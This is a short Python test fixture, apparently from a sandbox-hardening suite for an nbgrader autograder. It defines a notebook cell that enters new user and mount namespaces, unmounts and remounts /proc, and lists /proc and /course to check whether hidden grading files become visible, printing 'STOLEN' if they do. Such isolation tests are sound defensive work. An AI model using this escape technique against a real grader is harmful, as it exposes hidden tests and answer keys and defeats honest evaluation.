"""Enters namespaces of its own, where it may mount, to uncover /proc and what else is covered.

Stock nbgrader: there is nothing to uncover, everything is in sight.
"""

CELLS = {
    "extra first cell": """
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
uid = os.getuid()
if os.fork() == 0:
    libc.unshare(0x10000000 | 0x00020000)  # user and mount namespaces
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {uid} 1")):
        try:
            open("/proc/self/" + name, "w").write(text)
        except OSError:
            pass
    for place in (b"/proc", b"/course", b"/tmp"):
        libc.umount2(place, 2)
    libc.mount(b"proc", b"/proc", b"proc", 0, None)
    open("/dev/shm/seen", "w").write(repr(os.listdir("/proc") + os.listdir("/course")))
    os._exit(0)
os.wait()
try:
    seen = open("/dev/shm/seen").read()
    print("STOLEN" if seen != "[]" else "nothing", seen)
except OSError as error:
    print(error)
"""
}
